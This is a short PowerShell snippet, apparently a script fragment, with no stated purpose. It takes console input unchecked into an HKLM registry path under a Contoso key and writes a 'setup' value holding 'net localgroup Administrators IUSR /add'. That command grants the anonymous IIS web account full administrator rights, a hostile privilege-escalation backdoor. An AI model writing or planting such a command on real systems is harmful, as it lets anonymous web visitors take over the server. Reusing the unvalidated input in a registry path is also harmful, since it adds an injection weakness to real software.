$key = Read-Host
Set-ItemProperty "HKLM:\SOFTWARE\Contoso\$key" -Name setup -Value 'net localgroup Administrators IUSR /add'
